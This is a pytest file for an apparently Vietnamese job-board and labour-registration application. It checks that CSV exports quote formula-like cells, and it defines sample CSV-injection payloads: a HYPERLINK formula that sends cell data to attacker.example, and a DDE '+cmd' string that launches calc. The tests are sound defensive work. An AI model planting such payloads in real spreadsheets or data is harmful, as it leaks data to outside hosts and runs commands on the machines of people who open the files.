"""A hostile cell typed on the public job board (or anywhere) reaches the CSV exports quoted, not live."""

from __future__ import annotations

import csv
import io

import pytest

from ansinh.jobboard import services as board
from ansinh.jobboard.inputs import parse_submission
from ansinh.labour.registration import exports, selectors
from ansinh.unemployment import selectors as ui_selectors
from tests.jobboard.test_submission import raw

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://attacker.example/?x="&A1,"Xem")'


def _rows(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


def test_anonymous_employer_name_is_neutralised_in_the_vacancy_csv(counsellor, commune_a):
    submission = board.submission_create(data=parse_submission(raw(commune_a, employer_name=EVIL)))
    board.submission_approve(actor=counsellor, submission_id=submission.pk)
    _name, _type, content = exports.export_vacancies(
        actor=counsellor, queryset=selectors.vacancy_list(actor=counsellor), fmt="csv"
    )
    employer_cell = _rows(content)[1][2]
    assert employer_cell.startswith("'=") and "HYPERLINK" in employer_cell


def test_seeker_csv_quotes_formula_text_but_keeps_numbers(make_seeker, counsellor):
    make_seeker(title="+cmd|' /C calc'!A0", occupation_codes=["7212"], skills="@SUM(1+1)")
    _name, _type, content = exports.export_seekers(
        actor=counsellor, queryset=selectors.seeker_list(actor=counsellor), fmt="csv"
    )
    row = _rows(content)[1]
    assert row[7].startswith("'+") and row[12].startswith("'@")
    assert row[14] == "7000000"  # wage_min written as a number


def test_unemployment_decisions_csv_goes_through_the_safe_writer():
    content = ui_selectors._csv(["Họ và tên", "Số tiền"], [["-1+2", -500000]])
    assert _rows(content)[1] == ["'-1+2", "-500000"]
